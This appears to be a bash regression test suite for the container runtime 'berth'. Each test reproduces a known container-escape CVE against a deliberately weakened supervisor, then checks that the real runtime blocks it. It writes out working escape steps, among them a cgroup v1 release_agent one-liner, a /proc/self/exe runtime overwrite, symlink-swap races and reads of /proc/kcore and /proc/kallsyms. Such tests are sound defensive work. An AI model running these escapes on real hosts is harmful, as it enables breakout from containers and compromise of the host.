# SPDX-License-Identifier: LGPL-2.1-or-later
# shellcheck shell=bash
#
# Known ways out of containers, written from their public descriptions. Each is refused, with a user namespace and without;
# and each is first shown to work where the one protection against it is left out, by a supervisor that is built for
# these tests alone: otherwise a test would pass by accident.
#
# Only on: namespaced vm

busybox=/var/lib/machines/busybox
program=/usr/libexec/berth/berth-supervisor

# without PROTECTION OPTION…: berth run, without that protection. In a unit of its own, where berth is its own supervisor.
without() {
        command -v berth-supervisor-weak >/dev/null || skip "this build has no supervisor that can be weakened"
        local protection=$1
        shift
        "${before[@]}" systemd-run --quiet --wait --pipe --collect -p Delegate=yes -p KillMode=mixed --working-directory="$PWD" \
                -p "BindReadOnlyPaths=$(command -v berth-supervisor-weak):$program" --setenv="BERTH_WEAKEN=$protection" \
                --setenv="PATH=$PATH" "${inside[@]}" berth run --keep-unit --rm "$@"
}
before=() # the command that runs it, and the one that is run in the unit
inside=()

# on_a_terminal COMMAND…: for before: a terminal is its standard input.
on_a_terminal() {
        script -qec "$(printf '%q ' "$@")" /dev/null </dev/null
}

make_attempts() {
        make_tree tree
        cp "$(command -v attempt)" tree/bin/
}

# CVE-2019-5736: the host's program is what "#!/proc/self/exe" executes in the machine, with the machine's own "libraries":
# these change the host's file through /proc/self/exe.
test_overwriting_the_runtime() {
        local users
        [[ $(uname -m) == x86_64 ]] || skip "the attack is written for x86-64"
        make_tree tree
        mkdir -p tree/lib64
        cp "$(command -v overwrite)" tree/lib64/ld-linux-x86-64.so.2
        printf '#!/proc/self/exe\n' >tree/bin/attack
        chmod 755 tree/bin/attack

        # The protection is how it is executed: from a mount of its own that is read-only. Here it is not.
        cp "$program" ./runtime
        chmod 755 ./runtime
        printf '{"name":"attacked","root":"%s","remove":true,"settings":{"Parameters":["/bin/attack"],"PrivateUsers":"no"}}' "$PWD/tree" >spec
        systemd-run --quiet --wait --pipe --collect -p Delegate=yes -p KillMode=mixed --working-directory="$PWD" \
                sh -c 'exec ./runtime --keep-unit --spec=9 9<spec' || true
        [[ -e tree/attacked ]] || fail "the attack did not even begin"
        assert_eq "$(stat -c %a ./runtime)" 711 "the attack works"

        for users in pick no; do
                rm -f tree/attacked
                assert_status 42 berth run --rm --private-users="$users" ./tree /bin/attack
                [[ -e tree/attacked ]] || fail "the attack did not even begin"
                assert_eq "$(stat -c %a "$program")" 755
        done
}

# CVE-2024-21626: a working directory that is one of the runtime's open directories, which leads out.
test_leaked_working_directory() {
        local n users found=
        make_tree tree
        for n in {3..40}; do
                if without descriptors --private-users=no --workdir "/proc/self/fd/$n" ./tree sh -c 'cat spec.json 2>/dev/null || ls -d ../../etc/machine-id 2>/dev/null' 2>/dev/null | grep -q .; then
                        found=$n
                        break
                fi
        done
        [[ -n $found ]] || fail "the attack does not work where it should"

        for users in pick no; do
                for n in {0..12} "$found"; do
                        refute berth run --rm --private-users="$users" --workdir "/proc/self/fd/$n" ./tree true 2>/dev/null
                done
        done
}

test_leaked_working_directory_of_exec() {
        local n users found=
        make_tree tree
        systemd-run --quiet --collect --unit=berth-test-weak -p Delegate=yes -p KillMode=mixed --working-directory="$PWD" \
                -p "BindReadOnlyPaths=$(command -v berth-supervisor-weak):$program" --setenv=BERTH_WEAKEN=descriptors \
                berth run --keep-unit --rm --name leaks --private-users=no ./tree sleep 1000
        at_end systemctl stop berth-test-weak
        wait_until 60 berth exec leaks true
        for n in {3..40}; do
                if berth exec --workdir "/proc/self/fd/$n" leaks sh -c 'cat spec.json 2>/dev/null || ls -d ../../etc/machine-id 2>/dev/null' 2>/dev/null | grep -q .; then
                        found=$n
                        break
                fi
        done
        [[ -n $found ]] || fail "the attack does not work where it should"
        systemctl stop berth-test-weak

        for users in pick no; do
                berth run -d --rm --name leaks --private-users="$users" ./tree sleep 1000
                for n in {3..12} "$found"; do
                        refute berth exec --workdir "/proc/self/fd/$n" leaks true 2>/dev/null
                done
                berth stop leaks
        done
}

# CVE-2021-30465, CVE-2025-31133, CVE-2025-52565: a mount target that is a link out of the tree. What is missing there
# would be made on the host.
test_mount_target_that_leads_out() {
        local users
        make_tree tree
        mkdir source outside
        ln -s "$PWD/outside" tree/way-out
        without resolve --private-users=no --bind "$PWD/source:/way-out/made" ./tree true || true
        [[ -e outside/made ]] || fail "the attack does not work where it should"
        rmdir outside/made

        for users in pick no; do
                berth run --rm --private-users="$users" --bind "$PWD/source:/way-out/made" ./tree true || true
                [[ ! -e outside/made ]] || fail "a mount point was made outside of the tree with --private-users=$users"
                [[ -z $(ls outside) ]] || fail "something was made outside of the tree"
        done
}

# The same as a race: the target lies in what two machines share, and one of them makes a link of it while the other starts.
test_mount_target_that_is_swapped() {
        local users i swap='while :; do rm -rf /shared/target; mkdir /shared/target; usleep 300; rm -rf /shared/target
                ln -s "$0" /shared/target; usleep 300; done'
        make_tree tree
        cp -a tree other
        mkdir source outside shared
        berth run -d --rm --name swapper --private-users=no --bind "$PWD/shared:/shared" ./other sh -c "$swap" "$PWD/outside"
        at_end berth terminate swapper
        for i in {1..200}; do
                without resolve --private-users=no --bind "$PWD/shared:/shared" --bind "$PWD/source:/shared/target/made" ./tree true 2>/dev/null || true
                [[ ! -e outside/made ]] || break
        done
        [[ -e outside/made ]] || fail "the attack does not work where it should"
        rmdir outside/made

        for users in pick no; do
                for i in {1..20}; do
                        berth run --rm --private-users="$users" --bind "$PWD/shared:/shared:noidmap" --bind "$PWD/source:/shared/target/made" ./tree true \
                                2>/dev/null || true
                        [[ -z $(ls outside) ]] || fail "something was made outside of the tree with --private-users=$users"
                done
        done
}

# CVE-2025-52881 and the races before it: /proc, /sys and /dev of the image's own making, the console with them. What is
# there is berth's, in the tree, and nothing is made or written by way of the image's.
test_kernel_file_systems_that_lead_out() {
        local users name
        make_tree tree
        mkdir -p outside/{proc,sys}/self/attr tree/fake/self/attr
        touch outside/proc/self/{attr/exec,oom_score_adj} tree/fake/self/{attr/exec,oom_score_adj}
        rm -rf tree/proc tree/dev tree/sys

        # Where the links lead there is nothing yet.
        for name in proc dev sys; do
                ln -s "../../../../../../../..$PWD/outside/made-$name" "tree/$name"
        done
        without resolve --private-users=no -t ./tree true || true
        assert_eq "$(cd outside && echo made-*)" "made-dev made-proc made-sys" "the attack works"
        rmdir outside/made-*
        attack() {
                for users in pick no; do
                        find outside tree/fake -printf '%p %y %m %s %l\n' | sort >before
                        berth run --rm -t --private-users="$users" --oom-score-adjust=500 ./tree \
                                sh -c 'echo x >/dev/null; cat /proc/kcore | head -c 1' >/dev/null 2>&1 </dev/null || true
                        find outside tree/fake -printf '%p %y %m %s %l\n' | sort >after
                        check diff before after
                done
        }
        attack

        # And where there is something.
        rm tree/{proc,dev,sys}
        mkdir outside/dev
        touch outside/dev/{null,console}
        ln -s "$PWD/outside/dev" tree/dev
        ln -s /fake tree/proc
        ln -s "$PWD/outside/sys" tree/sys
        attack
}

# CVE-2025-31133: files of the kernel are covered with another file, and that is the one which the tree, or somebody who
# shares it, has put there: a link to what is to be reached.
test_cover_that_is_a_link() {
        local users
        make_tree tree
        echo secret >outside
        mkdir -p tree/dev
        rm -f tree/dev/null
        ln -s "$PWD/outside" tree/dev/null
        assert_eq "$(without covers --private-users=no ./tree sh -c 'cat /proc/keys; echo attacked >/proc/keys')" secret
        assert_eq "$(cat outside)" attacked
        echo secret >outside

        for users in pick no; do
                assert_eq "$(berth run --rm --private-users="$users" ./tree sh -c 'cat /proc/keys /proc/timer_list /proc/kallsyms; echo x >/proc/keys' 2>/dev/null || true)" ""
                assert_eq "$(cat outside)" secret
        done
}

# CVE-2025-52565: the console is another name of a terminal, and that name is a link in a /dev/pts that somebody shares.
test_console_that_is_a_link() {
        local users
        make_tree tree
        mkdir -p shared/pts
        touch shared/console
        echo secret >outside
        ln -s "$PWD/outside" shared/pts/0
        # What berth would have taken for the terminal is the file that the link leads to.
        before=(on_a_terminal)
        assert_contains "$(without console --private-users=no -t --bind "$PWD/shared:/dev" ./tree true || true)" \
                "taking the terminal: Inappropriate ioctl for device"

        for users in pick no; do
                assert_contains "$(berth run --rm -t --private-users="$users" --bind "$PWD/shared:/dev" ./tree \
                        sh -c 'test -c /dev/console && test -t 0 && echo well' </dev/null)" well
        done
        assert_eq "$(cat outside)" secret
}

# CVE-2025-52881, CVE-2019-19921: what a process that joins writes to /proc goes to where the machine has led it: its label is not
# set, and something else is written to.
#
# Only on: vm
test_label_that_is_written_elsewhere() {
        local users cover='mount -t tmpfs x /proc && mkdir -p /proc/self/attr/apparmor && : >/proc/self/attr/apparmor/exec && : >/ready &&
                exec sleep 1000'
        [[ $(cat /sys/module/apparmor/parameters/enabled 2>/dev/null) == Y ]] || skip "AppArmor is not on here"
        apparmor_parser -r /etc/apparmor.d/berth-machine
        at_end apparmor_parser -R /etc/apparmor.d/berth-machine
        make_tree tree

        # What the host knows of a process that was executed in the machine, and what the machine has read.
        label_of_joined() {
                local label
                wait_until 60 test -e tree/ready
                berth exec covered sleep 4712 &
                wait_until 60 pgrep -xf 'sleep 4712' >/dev/null
                label=$(cat "/proc/$(pgrep -xf 'sleep 4712')/attr/apparmor/current")
                pkill -xf 'sleep 4712'
                wait "$!" || true
                printf '%s, %s\n' "$label" "$(nsenter -m -t "$(leader_of covered)" cat /proc/self/attr/apparmor/exec)"
        }
        systemd-run --quiet --collect --unit=berth-test-weak -p Delegate=yes -p KillMode=mixed --working-directory="$PWD" \
                -p "BindReadOnlyPaths=$(command -v berth-supervisor-weak):$program" --setenv=BERTH_WEAKEN=proc \
                berth run --keep-unit --rm --name covered --cap-add sys_admin ./tree sh -c "$cover"
        at_end systemctl stop berth-test-weak
        assert_eq "$(label_of_joined)" "unconfined, exec berth-machine"
        systemctl stop berth-test-weak

        for users in pick no; do
                rm -f tree/ready
                berth run -d --rm --name covered --private-users="$users" --cap-add sys_admin ./tree sh -c "$cover"
                assert_eq "$(label_of_joined)" "berth-machine (enforce), "
                berth stop covered
        done
}

# CVE-2016-9962: a process that joins is looked into before it has let go of what is the host's. Root of the machine may with
# CAP_SYS_PTRACE, or once both have the same capabilities; with the host's CAP_SYS_PTRACE it may look into all of the host.
test_joining_process_is_not_seen() {
        local row options
        make_tree tree
        cp "$(command -v prowl)" tree/bin/
        for row in "--private-users=pick --cap-add=sys_ptrace" --private-users=no; do
                read -r -a options <<<"$row"
                rm -f tree/seen tree/ready
                systemd-run --quiet --collect --unit=berth-test-weak -p Delegate=yes -p KillMode=mixed --working-directory="$PWD" \
                        -p "BindReadOnlyPaths=$(command -v berth-supervisor-weak):$program" --setenv=BERTH_WEAKEN=dumpable \
                        berth run --keep-unit --rm --name prowled "${options[@]}" ./tree prowl
                at_end systemctl stop berth-test-weak
                wait_until 60 test -e tree/ready
                for _ in {1..1000}; do
                        berth exec prowled true
                        [[ ! -e tree/seen ]] || break
                done
                [[ -e tree/seen ]] || fail "the attack does not work where it should, with $row"
                systemctl stop berth-test-weak
        done

        for row in "--private-users=pick --cap-add=sys_ptrace" --private-users=pick --private-users=no; do
                read -r -a options <<<"$row"
                rm -f tree/seen tree/ready
                berth run -d --rm --name prowled "${options[@]}" ./tree prowl
                wait_until 60 test -e tree/ready
                for _ in {1..60}; do
                        berth exec prowled true
                done
                berth stop prowled
                [[ ! -e tree/seen ]] || fail "a process that joins can be looked into: $(head -n 1 tree/seen)"
        done
}

# CVE-2022-0185 and its like: a user namespace of one's own, and with its capabilities the kernel's mount code.
test_user_namespace_for_capabilities() {
        local users
        make_attempts
        assert_eq "$(without filter --private-users=no ./tree attempt clone-newuser unshare fsopen | tr '\n' ';')" \
                "clone-newuser ok;unshare ok;fsopen ok;"
        assert_eq "$(without filter ./tree attempt clone-newuser unshare fsopen | tr '\n' ';')" "clone-newuser ok;unshare ok;fsopen ok;"
        for users in pick no; do
                assert_eq "$(berth run --rm --private-users="$users" ./tree attempt clone-newuser unshare fsopen | tr '\n' ';')" \
                        "clone-newuser EPERM;unshare EPERM;fsopen EPERM;"
        done
}

# CVE-2022-0492: cgroup v1's release_agent is executed by the host, as its root, when a cgroup has become empty. Who may
# mount may have a hierarchy of his own to write it in, unless his cgroup namespace is not the host's.
test_release_agent() {
        local users i attack='mkdir -p /tmp/c && mount -t cgroup -o none,name=berth-escape x /tmp/c && mkdir -p /tmp/c/x &&
                echo 1 >/tmp/c/x/notify_on_release && echo "$0" >/tmp/c/release_agent && sh -c "echo \$\$ >/tmp/c/x/cgroup.procs" && echo written'
        make_tree tree
        printf '#!/bin/sh\n: >%s/escaped\n' "$PWD" >agent
        chmod 755 agent

        # The protection is the cgroup namespace. The namespaced host is in one itself, so there is no showing it there.
        if [[ $BERTH_HOST == vm ]]; then
                berth run --rm --private-users=no --cgroupns=host --cap-add sys_admin ./tree sh -c "$attack" "$PWD/agent" || true
                wait_until 60 test -e escaped
                rm escaped
                # That hierarchy goes with its last cgroup. One that is there may be mounted by any namespace, from its own cgroup down.
                mkdir v1
                mount -t cgroup -o none,name=berth-escape x v1
                rmdir v1/x
                umount v1
        fi

        for users in pick no; do
                for i in "" --cap-add=sys_admin; do
                        # shellcheck disable=SC2086 # none or one
                        assert_lacks "$(berth run --rm --private-users="$users" $i ./tree sh -c "$attack" "$PWD/agent" 2>&1 || true)" written
                done
        done
        refute test -e escaped
}

# Input put into the terminal that the machine was given as its standard input.
test_terminal_injection() {
        local users
        make_attempts
        for users in pick no; do
                assert_contains "$(script -qec "berth run --rm --private-users=$users ./tree attempt tiocsti" /dev/null </dev/null)" "tiocsti EPERM"
                assert_contains "$(script -qec "berth run --rm -t --private-users=$users ./tree attempt tiocsti tiocsti-64" /dev/null </dev/null)" "tiocsti-64 EPERM"
        done

        # Newer kernels do not let anybody (dev.tty.legacy_tiocsti).
        [[ $(sysctl -n dev.tty.legacy_tiocsti 2>/dev/null || echo 1) == 1 ]] || return 0
        before=(on_a_terminal)
        assert_contains "$(without filter --cap-add sys_admin --private-users=no ./tree attempt tiocsti || true)" "tiocsti ok"
}

# A key in the session keyring of whoever starts the machine.
test_keyrings_are_not_shared() {
        local users
        make_attempts
        inside=(with-key)
        assert_eq "$(without keyring --private-users=no --system-call-filter=@keyring ./tree attempt request_key)" "request_key ok"
        inside=()
        for users in pick no; do
                assert_ne "$(with-key berth run --rm --private-users="$users" --system-call-filter=@keyring ./tree attempt request_key)" "request_key ok"
                assert_eq "$(berth run --rm --private-users="$users" ./tree attempt request_key)" "request_key EPERM"
        done
        assert_ne "$(systemd-run --quiet --wait --pipe --collect -p Delegate=yes --working-directory="$PWD" --setenv="PATH=$PATH" \
                with-key berth run --keep-unit --rm --private-users=no --system-call-filter=@keyring ./tree attempt request_key)" "request_key ok"
}
